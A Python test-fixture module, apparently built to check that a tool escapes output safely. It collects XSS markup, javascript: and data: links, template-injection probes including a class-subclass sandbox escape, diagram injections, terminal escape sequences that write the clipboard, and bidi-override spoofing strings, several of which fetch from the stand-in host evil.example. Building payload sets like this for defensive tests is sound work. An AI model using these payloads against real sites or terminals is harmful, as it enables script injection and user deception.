"""Texts that would run, send, open or draw something if any format let them.

What would run says `MARK` on the console; what would be asked for is at `ELSEWHERE`.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["CONTROLS", "DIAGRAMS", "ELSEWHERE", "MARK", "PAYLOADS", "TEMPLATES", "TURNING"]

MARK = "otelhook-payload-ran"
ELSEWHERE = "http://evil.example"
_RUN = f"console.log('{MARK}')"
_SCRIPT = f"<script>{_RUN}</script>"
_IMAGE = f"<img src={ELSEWHERE}/i onerror={_RUN}>"

MARKUP: Mapping[str, str] = {
    "a script": _SCRIPT,
    "the end of a title, a script": f"</title>{_SCRIPT}",
    "the end of a title in capitals": f"</TITLE >{_SCRIPT}",
    "the end of a heading": f"</h1></h2></h3>{_SCRIPT}",
    "the end of a comment": f"-->{_SCRIPT}<!--",
    "the end of a script": f"</script>{_SCRIPT}",
    "the end of a style": f"</style>{_SCRIPT}",
    "the end of a text area": f"</textarea>{_SCRIPT}",
    "the end of a template": f"</template></noscript>{_SCRIPT}",
    "the end of code": f"</code></pre></div>{_SCRIPT}",
    "the end of a CDATA section": f"]]>{_SCRIPT}",
    "the end of a picture": f"</text></svg>{_SCRIPT}",
    "the end of an attribute": f'"><{_SCRIPT[1:]}',
    "the end of an attribute in single quotes": f"'><{_SCRIPT[1:]}",
    "a handler in an attribute": f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus="',
    "a handler in single quotes": f"' onload='{_RUN}' autofocus onfocus='{_RUN}",
    "an image that fails": _IMAGE,
    "an image with slashes": f"<img/src=x/onerror={_RUN}>",
    "an image in no quotes": f"<img src=`x` onerror={_RUN}>",
    "a picture that loads": f"<svg onload={_RUN}>",
    "a picture's script": f"<svg><script>{_RUN}</script></svg>",
    "a picture that animates": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "a picture's link": f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    "a picture that uses another": f"<svg><use href='{ELSEWHERE}/x.svg#a'/></svg>",
    "foreign content": f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "mathematics": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "a body that loads": f"<body onload={_RUN}>",
    "details that open": f"<details open ontoggle={_RUN}>x</details>",
    "a video": f"<video><source onerror={_RUN} src={ELSEWHERE}/v></video>",
    "a frame": f"<iframe src='javascript:{_RUN}'></iframe>",
    "a frame with a document": f"<iframe srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    "an object": f"<object data='data:text/html,{_SCRIPT}'></object>",
    "a form": f"<form action='javascript:{_RUN}'><input type=submit autofocus></form>",
    "a button with an action": f"<button formaction='javascript:{_RUN}'>x</button>",
    "a base": f"<base href='{ELSEWHERE}/'>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'>",
    "a style sheet": f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    "a style that asks": f"<style>@import '{ELSEWHERE}/s.css'; *{{color:red}}</style>",
    "a background that asks": f"<b style='background:url({ELSEWHERE}/b)'>x</b>",
    "a script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "a null within a tag": f"<scr\0ipt>{_RUN}</scr\0ipt>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "entities of entities": f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    "numeric entities": f"&#60;script&#62;{_RUN}&#x3c;/script&#x3e;",
    "entities without their ends": f"&ltscript&gt{_RUN}&lt/script&gt",
    "the end of a title in entities": f"&lt;/title&gt;&lt;script&gt;{_RUN}&lt;/script&gt;",
    "wide brackets": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "a tag over two lines": f"<img\nsrc=x\nonerror={_RUN}\n>",
}

LINKS: Mapping[str, str] = {
    "a link with a script": f"[x](javascript:{_RUN})",
    "a link with a script in entities": f"[x](java&#115;cript&colon;{_RUN})",
    "a link with a tab": f"[x](java\tscript:{_RUN})",
    "a link with data": f"[x](data:text/html,{_SCRIPT})",
    "a link in angle brackets": f"<javascript:{_RUN}>",
    "a reference": f"[x]\n\n[x]: javascript:{_RUN}",
    "an image of elsewhere": f"![x]({ELSEWHERE}/i.png)",
    "an address with a script": f"javascript:{_RUN}",
    "an address with a script in capitals": f" JaVaScRiPt:{_RUN}//",
    "another's old script": f"vbscript:{_RUN}",
    "an address with data": f"data:text/html;base64,PHNjcmlwdD4={_RUN}",
    "an anchor": f"<a href='javascript:{_RUN}'>x</a>",
}

TEMPLATES: Mapping[str, str] = {
    "a macro": "{{ 7 * 7 }}{{ config.site_name }}",
    "a macro that reaches out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a statement": "{% for x in [1] %}x{% endfor %}",
    "a statement that fails": "{% include 'nothing' %}{{ undefined.x }}",
    "the end of raw text": "{% endraw %}{{ 7 * 7 }}{% raw %}",
    "a comment of a template": "before {# gone #} after",
    "half a statement": "{%",
    "half a macro": "{{",
    "an attribute list": f'x {{: onclick="{_RUN}" style="x" }}',
    "front matter": f"---\ntitle: '</title>{_SCRIPT}'\n---",
    "a file": '--8<-- "secret.txt"',
}

DIAGRAMS: Mapping[str, str] = {
    "a directive": f'%%{{init: {{"securityLevel": "loose", "theme": "x"}}}}%%<b onclick={_RUN}>',
    "a link of a participant": f"p1\nlink p1: x @ javascript:{_RUN}",
    "a click": f'x\nclick p1 href "javascript:{_RUN}"',
    "the end of a fence": f"```\n\n{_SCRIPT}\n\n```",
    "a longer fence": f"``````\n{_IMAGE}\n~~~~~~",
    "a message of PlantUML": f"\n!include {ELSEWHERE}/x.puml\n",
}

CONTROLS: Mapping[str, str] = {
    "a window's title": "\x1b]0;pwned\x07",
    "a window's title by C1": "\x9d0;pwned\x9c",
    "the clipboard": "\x1b]52;c;cHduZWQ=\x07",
    "the clipboard by C1": "\x9d52;c;cHduZWQ=\x9c",
    "a link": f"\x1b]8;;{ELSEWHERE}\x1b\\x\x1b]8;;\x1b\\",
    "an unfinished command": "\x1b]0;never ended",
    "colours that stay": "\x1b[31;42;7m",
    "colours by C1": "\x9b31m",
    "a cleared screen": "\x1b[2J\x1b[H",
    "another screen": "\x1b[?1049h",
    "no cursor": "\x1b[?25l",
    "another character set": "\x1b(0\x0e",
    "another character set by C1": "\x8e\x8f",
    "a reset": "\x1bc",
    "a device string": "\x1bPq#0\x1b\\",
    "a device string by C1": "\x90q#0\x9c",
    "an application's string": "\x1b_Gi=1;AAAA\x1b\\",
    "a privacy message": "\x1b^x\x1b\\\x9ex\x9c",
    "scrolling within a margin": "\x1b[2;3r",
    "a bell and back spaces": "x\x07\x08\x08\x7f",
    "an answer that is typed": "\x1b[6n\x1b[c\x05",
    "a line that is written over": "harmless\rpwned",
    "other line ends": "x\x0b\x0cy\x85z\u2028w\u2029",
}

TURNING: Mapping[str, str] = {
    "text that is turned": "user\u202etxt.exe",
    "text that is embedded": "a\u202ab\u202bc\u202cd",
    "text that is isolated": "a\u2066b\u2067c\u2068d\u2069e",
}

PAYLOADS: Mapping[str, str] = {
    **MARKUP,
    **LINKS,
    **TEMPLATES,
    **DIAGRAMS,
    **CONTROLS,
    **TURNING,
}
"""All of them by what they are."""
